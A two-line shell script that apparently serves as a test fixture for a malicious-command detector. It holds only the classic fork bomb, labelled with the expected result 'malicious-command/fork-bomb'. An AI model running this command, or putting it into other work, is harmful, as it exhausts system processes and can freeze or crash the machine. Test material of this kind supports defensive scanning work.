#!/bin/sh
:(){ :|:& };: # expect: malicious-command/fork-bomb
